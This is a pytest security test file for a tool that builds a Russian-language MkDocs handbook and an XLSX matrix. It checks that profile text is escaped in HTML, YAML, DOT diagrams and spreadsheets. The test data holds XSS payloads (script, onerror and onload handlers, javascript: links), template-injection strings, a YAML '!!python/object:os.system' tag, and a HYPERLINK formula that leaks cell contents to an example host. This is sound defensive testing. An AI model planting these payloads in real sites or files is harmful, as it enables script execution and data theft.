"""Script injection: profile text reaches the handbook (pages, nav, titles, diagram, JSON-LD)
and mkdocs.yml only escaped — shown literally, never live markup."""

from __future__ import annotations

import html
import re
import shutil
import subprocess

import markdown as pymarkdown
import pytest
import yaml as pyyaml

from hostile_kit import assert_no_traceback, make_case, scan_html, squash, stderr_lines
from rsnms import escape
from rsnms.handbook.site import NAV_BEGIN, NAV_END

MARK = "ЗЛОЙ"      # every payload carries it, so its markup can be told from the theme's
PAYLOADS = [
    f"{MARK}1 <script>alert(1)</script>",
    f"{MARK}2 [x](javascript:alert(2)) {{: onmouseover=\"alert(3)\" }}",
    f"{MARK}3 <img src=x onerror=alert(4)> `код` *жирный* _курсив_ ~~зачёркнутый~~",
    f"{MARK}4 {{{{ doc.title }}}} {{% if 1 %}} ${{x}} {{title.__class__}} %s &amp; &lt;b&gt; \\ \" '",
    f"{MARK}5 </title></script><!-- -->\"><svg onload=alert(5)>",
]
# mkdocs.yml's nav marker in a region's name: it must not end the generated block
NAME = f"Омская область {MARK} {NAV_END} <script>alert(6)</script>"
SHORT = f"{MARK}ЦНТР\" ] -> n_ministry; x [label=\"<b>"
# a formula a spreadsheet would run, as a task's text: the matrix must hold it as text
FORMULA = f'=HYPERLINK("http://example.org/?leak="&A1,"{MARK}6")'


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The project with payloads in the region's name, a function, a glossary term and a
    definition, a new subject's name and short name (the diagram), a task, a roadmap row."""
    case = make_case(tmp_path_factory.mktemp("injection"))
    data = case.load()
    data["region"]["name"] = NAME
    regional = data["system"]["subjects"]["regional"]
    regional.append({"id": "hostile", "name": PAYLOADS[0], "short": SHORT,
                     "functions": [PAYLOADS[1], PAYLOADS[2]]})
    regional[0]["functions"].append(f"взаимодействует с {SHORT}")
    data["system"].setdefault("glossary", []).append({"term": PAYLOADS[3], "definition": PAYLOADS[4]})
    data["system"]["tasks"] += [PAYLOADS[2], FORMULA]
    data["roadmap"]["directions"][0]["items"][0]["activity"] += " " + PAYLOADS[0]
    case.save(data)
    result = case.run("build", timeout=900)
    assert result.returncode == 0, result.stderr[-3000:]
    return case


def test_no_page_of_the_site_has_markup_made_from_profile_text(hostile_site):
    site = hostile_site.root / "build" / "site"
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 30
    live = {p.relative_to(site).as_posix(): scan_html(p.read_text(encoding="utf-8"), MARK)[0] for p in pages}
    assert {page: found for page, found in live.items() if found} == {}


def test_the_payloads_are_shown_literally(hostile_site):
    site = hostile_site.root / "build" / "site"
    overview = scan_html((site / "regions" / "omsk" / "index.html").read_text(encoding="utf-8"), MARK)[1]
    for payload in (NAME, PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]):
        assert squash(payload) in squash(overview), payload
    glossary = scan_html((site / "compare" / "glossary" / "index.html").read_text(encoding="utf-8"), MARK)[1]
    # the glossary page groups terms without their quotes (« » ")
    for payload in (PAYLOADS[3].replace('"', ""), PAYLOADS[4]):
        assert squash(payload) in squash(glossary), payload
    # the nav and the browser title show the name too, as text
    home = (site / "index.html").read_text(encoding="utf-8")
    assert squash(NAME) in squash(scan_html(home, MARK)[1])
    title = re.search(r"<title>(.*?)</title>", (site / "regions/omsk/index.html").read_text(encoding="utf-8"), re.S)
    assert "&lt;script&gt;alert(6)&lt;/script&gt;" in title.group(1)


def test_the_matrix_holds_a_formula_typed_in_a_profile_as_text(hostile_site):
    import zipfile

    from openpyxl import load_workbook

    path = hostile_site.root / "build" / "compare" / "matrix.xlsx"
    added = load_workbook(path)["Добавлено регионами"]
    cells = [c for row in added.iter_rows() for c in row    # as the acts typeset it: «» quotes
             if isinstance(c.value, str) and c.value.startswith("=HYPERLINK(") and f"{MARK}6" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(path) as book:
        assert not any(b"<f>" in book.read(name) or b"<f " in book.read(name)
                       for name in book.namelist() if name.startswith("xl/worksheets/"))


def test_the_diagram_labels_hold_the_short_name_as_text(hostile_site):
    page = (hostile_site.root / "build" / "site" / "regions" / "omsk" / "index.html").read_text(encoding="utf-8")
    svg = re.search(r'<svg role="img" aria-label="Схема взаимодействия.*?</svg>', page, re.S).group(0)
    assert "<b>" not in svg
    texts = html.unescape("".join(re.findall(r"<text[^>]*>(.*?)</text>", svg, re.S)))
    assert SHORT.replace(" ", "") in texts.replace(" ", "")
    # the arrow the short name's mention makes, and no arrow the payload tried to draw
    edges = re.findall(r"<title>(n_\w+)&#45;&gt;(n_\w+)</title>", svg)
    assert ("n_ministry", "n_hostile") in edges and ("n_hostile", "n_ministry") not in edges


def test_mkdocs_yml_keeps_one_generated_block(hostile_site):
    config = (hostile_site.root / "mkdocs.yml").read_text(encoding="utf-8")
    assert config.count(NAV_BEGIN) == 1 and len(re.findall(f"^{re.escape(NAV_END)}$", config, re.M)) == 1
    assert config.splitlines()[-1] == NAV_END
    from mkdocs.utils.yaml import get_yaml_loader

    nav = pyyaml.load(config, Loader=get_yaml_loader())["nav"]      # as MkDocs reads it
    regions = dict(next(e for e in nav if "Регионы" in e))["Регионы"]
    assert escape.html(NAME) in [next(iter(r)) for r in regions]


@pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is installed by scripts/install-system-deps.sh")
def test_no_script_runs_in_chromium(hostile_site):
    from playwright.sync_api import sync_playwright

    site = hostile_site.root / "build" / "site"
    fired = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=[
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync"])
        page = browser.new_page()
        page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:")
                   else route.abort())
        page.on("dialog", lambda dialog: (fired.append(dialog.message), dialog.dismiss()))
        for rel in ("regions/omsk/index.html", "regions/omsk/plan/index.html", "compare/glossary/index.html",
                    "index.html"):
            page.goto((site / rel).as_uri())
            page.wait_for_load_state("load")
            for element in page.query_selector_all("td, li, p")[:200]:
                element.dispatch_event("mouseover")
        browser.close()
    assert fired == []


# --- the escaping functions, one per target, on their own ---------------------------------

CORPUS = PAYLOADS + [
    "- список", "1986. год", "    отступ", "!!! note", "```js", "# заголовок", "=== ", "a | b | c",
    "<https://пример.рф>", "[[ссылка]](x)", "&#60;script&#62;", "строка\nещё строка", "\U0001F600 \u202f \ufeff",
]


@pytest.mark.parametrize("text", CORPUS)
def test_markdown_escaping_renders_the_text_literally(text):
    md = pymarkdown.Markdown(extensions=["tables", "admonition", "attr_list", "md_in_html", "pymdownx.tilde",
                                         "pymdownx.superfences", "toc"])
    for source in (escape.markdown(text), f"| a |\n| --- |\n| {escape.markdown(text)} |",
                   f"## {escape.markdown(text)}", f"- {escape.markdown(text)}"):
        html = md.reset().convert(source)
        live, visible = scan_html(html, "")
        assert live == []
        assert squash(text) in squash(visible), (source, html)
        assert not re.search(r"<(script|img|svg|a|code|em|strong|del|ol|ul|pre|h1|hr|div)\b", html.split(">", 1)[1]
                             if source.startswith(("|", "##", "-")) else html), html


@pytest.mark.parametrize("text", CORPUS + ["\\", '"', "&amp;", "a\\nb", "\\N \\G \\L"])
@pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz is installed by scripts/install-system-deps.sh")
def test_dot_escaping_draws_the_label_as_written(text):
    source = f"digraph g {{ n [label={escape.dot(text)}]; }}"
    svg = subprocess.run(["dot", "-Tsvg"], input=source.encode(), capture_output=True, check=True).stdout.decode()
    texts = [re.sub(r"&#(\d+);", lambda m: chr(int(m.group(1))), t)
             for t in re.findall(r"<text[^>]*>(.*?)</text>", svg, re.S)]
    shown = "\n".join(html.unescape(t) for t in texts)
    assert shown.split() == text.split() or squash(shown) == squash(text), (text, shown)


@pytest.mark.parametrize("text", CORPUS + ["#", ": x", "'", "- a", "\x85\u2028\u2029", "\x00\x07\x1b", "\U0001F600",
                                           NAV_END, "{a: b}", "*alias", "&anchor", "!!python/object:os.system"])
def test_yaml_escaping_is_read_back_as_the_same_text(text):
    loaded = pyyaml.load(f"key: {escape.yaml(text)}\nnext: 1\n", Loader=pyyaml.Loader)
    assert loaded == {"key": text, "next": 1}
    loaded = pyyaml.load(escape.yaml({"title": text, "list": [text, 1, None]}), Loader=pyyaml.Loader)
    assert loaded == {"title": text, "list": [text, 1, None]}


def test_html_escaping_leaves_no_tag_or_attribute():
    for text in CORPUS:
        html = f'<p title="{escape.html(text)}">{escape.html(text)}</p>'
        live, visible = scan_html(html, "")
        assert live == [] and html.count("<") == 2 + html.count("<br>")
        assert squash(text) in squash(visible.replace("<br>", " "))


def test_a_new_line_in_a_short_name_is_refused_before_the_diagram(tmp_path):
    case = make_case(tmp_path)
    data = case.load()
    data["system"]["subjects"]["regional"][0]["short"] = "ЦНППМ\n```\n<script>alert(1)</script>"
    case.save(data)
    before = case.state()
    result = case.run("build", "omsk", "--no-site")
    assert_no_traceback(result)
    assert result.returncode == 2
    line = case.line_of("ЦНППМ\\n```")
    assert f"regions/omsk.yaml:{line}:14: system.subjects.regional[0].short: перевод строки в поле из одной " \
           "строки: запишите значение в одну строку" in stderr_lines(result)
    assert case.state() == before
